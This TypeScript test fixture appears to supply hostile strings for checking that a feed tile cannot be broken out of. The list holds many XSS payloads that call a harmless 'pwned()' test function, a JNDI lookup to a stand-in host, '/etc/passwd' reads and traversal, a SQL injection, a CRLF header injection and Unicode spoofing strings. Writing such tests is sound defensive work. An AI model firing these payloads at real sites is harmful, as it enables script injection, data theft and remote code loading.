/** Texts that a feed could send to break out of its tile: at least 200, each of which would show if it did. */

// Whatever runs calls `pwned`, which the page under test has.
const call = 'pwned()';

const scripts = [
  `<script>${call}</script>`,
  `<SCRIPT>${call}</SCRIPT>`,
  `<script src=/pwned.js></script>`,
  `<script type=module>${call}</script>`,
  `</script><script>${call}</script>`,
  `"><script>${call}</script>`,
  `'><script>${call}</script>`,
  `--><script>${call}</script>`,
  `]]><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</textarea><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `</noscript><script>${call}</script>`,
  `</template><script>${call}</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script\n>${call}</script\t>`,
  `<script/x>${call}</script>`,
  `\u0000<script>${call}</script>`,
  `<\u0000script>${call}</script>`,
  `<!--><script>${call}</script>`,
  `<![CDATA[<script>${call}</script>]]>`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `&#60;script&#62;${call}&#60;/script&#62;`,
  `\\x3cscript\\x3e${call}\\x3c/script\\x3e`,
  `%3Cscript%3E${call}%3C/script%3E`,
];

const elements = ['img src=x', 'video src=x', 'audio src=x', 'body', 'input autofocus', 'details open', 'a'];
const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onmouseover', 'onanimationstart'];
const attributes = elements.flatMap((element) => handlers.map((on) => `<${element} ${on}=${call}>`));

const breakers = ['"', "'", '`', '">', "'>", '`>', '" ', "' ", '"/', '">\n'].flatMap((end) => [
  `${end} onmouseover=${call} x=`,
  `${end} autofocus onfocus="${call}`,
  `${end} style=animation:x onanimationstart=${call} `,
]);

const schemes = [
  `javascript:${call}`,
  `JavaScript:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `\u0001javascript:${call}`,
  `javascript&colon;${call}`,
  `javascript:/*https://x.example*/${call}`,
  `javascript://https://x.example/%0a${call}`,
  `vbscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `data:text/html;base64,PHNjcmlwdD5wd25lZCgpPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`,
  'data:text/javascript,pwned()',
  'blob:https://x.example/1',
  'file:///etc/passwd',
  'http://x.example/',
  '//x.example/pwned',
  '/pwned',
  'https:x.example',
  'https://',
  'https:// x.example',
  'https://user:password@x.example/',
  'https://safe.example@x.example/',
  'https://x.example/\u202egpj.exe',
  `https://x.example/"onmouseover="${call}`,
  `https://x.example/'><script>${call}</script>`,
  'https://[',
  'https://x.example:99999/',
  `https://${'a'.repeat(3000)}.example/`,
  'ftp://x.example/',
  'intent://x.example#Intent;end',
  'view-source:https://x.example/',
  `feed:javascript:${call}`,
];

const drawings = [
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script href=data:,${call} />`,
  `<svg><a href=javascript:${call}><text>x</text></a></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<svg><set onbegin=${call} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${call}>#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${call}></foreignObject></svg>`,
  `<svg><image href=x onerror=${call}></svg>`,
  `<svg><style>*{background:url(/pwned.png)}</style></svg>`,
  `<svg><desc><![CDATA[</desc><script>${call}</script>]]></svg>`,
  `<math><maction actiontype=statusline xlink:href=javascript:${call}>x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${call}></style></mglyph></table></mtext></math>`,
  `<math href=javascript:${call}>x</math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${call}>`,
];

const embeds = [
  `<iframe src=javascript:parent.${call}></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
  '<object data=/pwned></object>',
  '<embed src=/pwned>',
  `<base href=//x.example/>`,
  `<meta http-equiv=refresh content=0;url=/pwned>`,
  `<link rel=stylesheet href=/pwned.css>`,
  `<link rel=prefetch href=/pwned>`,
  `<form action=javascript:${call}><button>x</button></form>`,
  `<button formaction=javascript:${call}>x</button>`,
  `<isindex type=image src=x onerror=${call}>`,
  `<marquee onstart=${call}>x</marquee>`,
  `<dialog open onclose=${call}>x</dialog>`,
  `<slot onslotchange=${call}></slot>`,
  '<masthead-strip board="front"></masthead-strip>',
  `<template shadowrootmode=open><script>${call}</script></template>`,
  '<portal src=/pwned></portal>',
  '<plaintext>',
  '<xmp>',
];

const styles = [
  '<style>*{display:none}</style>',
  '<style>@import "/pwned.css";</style>',
  '<div style="position:fixed;inset:0;background:red">',
  'x;}*{display:none!important}',
  '}</style><style>:host{display:none}',
  'expression(pwned())',
  'url(/pwned.png)',
  '-moz-binding:url(/pwned.xml#x)',
  'var(--masthead-ink)',
  '/*',
  '*/',
  '@import url(/pwned.css);',
];

const templates = [
  '{{constructor.constructor("pwned()")()}}',
  '{{7*7}}',
  `\${${call}}`,
  `#{${call}}`,
  `<%= ${call} %>`,
  `\${{${call}}}`,
  `{%raw%}${call}{%endraw%}`,
  `[[${call}]]`,
  `@{${call}}`,
  '$(pwned)',
  '`pwned`',
  `\${jndi:ldap://x.example/a}`,
  '%s%s%s%n',
  '$&$1$`',
  '%00',
  '../../../../etc/passwd',
  "' OR 1=1 --",
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
];

const json = [
  '"}',
  '"},"pwned":{"',
  '\\',
  '\\"',
  '\\u0022',
  '\\u003cscript\\u003e',
  ']}',
  '\u2028pwned()\u2029',
  '{"__proto__":{"pwned":1}}',
  'null',
  'undefined',
  'NaN',
  '[object Object]',
  '\n\r\t',
  '&amp;&lt;&gt;&quot;&#39;',
  '&#x202e;abc',
  '<!--',
  '-->',
  '<',
  '>',
  '&',
  '</',
  '<a',
  '<a href="',
];

const bidi = ['\u202a', '\u202b', '\u202c', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u2069']
  .concat('\u200e', '\u200f', '\u061c')
  .map((control) => `up 12${control}%34 nwod`);

const controls = Array.from({ length: 32 }, (_, code) => `a${String.fromCharCode(code)}b`).concat(
  Array.from({ length: 33 }, (_, index) => `a${String.fromCharCode(0x7f + index)}b`),
  '\u001b[31mred\u001b[0m',
  '\u001b]8;;https://x.example\u0007link\u001b]8;;\u0007',
  'a\r\nSet-Cookie: pwned=1',
);

const unseen = [
  '\u200b',
  '\u200b'.repeat(500),
  'a\u200bb\u2060c\ufeffd',
  '\u200d'.repeat(500),
  `a${'\u200c\u200d'.repeat(300)}b`,
  '\u00ad'.repeat(300),
  '\u3164\u115f\u1160\uffa0',
  '\u034f\u180e\u2061\u2062\u2063\u2064',
  '\ufff9a\ufffab\ufffb',
  '\u{e0001}\u{e0061}\u{e007f}',
  '\u{e0100}'.repeat(200),
  '   \u00a0\u3000\u2003   ',
];

const floods = [
  `Z${'\u0300\u0316\u0489'.repeat(300)}`,
  '\u0301'.repeat(1000),
  [...'warning'].map((letter) => letter + '\u0334\u0338\u035c\u0310\u0352'.repeat(20)).join(''),
  `\u0e01${'\u0e49'.repeat(200)}`,
  '\ufdfd'.repeat(200),
  '𒐫'.repeat(200),
  '꧅'.repeat(200),
  'W'.repeat(10_240),
  `<img src=x onerror=${call}>`.repeat(400),
  '\u05d0'.repeat(10_240),
  '👩‍👩‍👧‍👦'.repeat(900),
  `${'a '.repeat(5_120)}`,
  `${'\n'.repeat(10_240)}x`,
  '<b>'.repeat(3_500),
];

const halves = [
  '\ud800',
  '\udfff',
  'a\ud83db',
  'a\ude00b',
  '\ude00\ud83d',
  '\ud83d'.repeat(100),
  `${'x'.repeat(63)}\ud83d\ude00`,
  '\ufffe\uffff',
];

export const hostileStrings: readonly string[] = [
  ...[scripts, attributes, breakers, schemes, drawings, embeds, styles, templates, json].flat(),
  ...[bidi, controls, unseen, floods, halves].flat(),
];
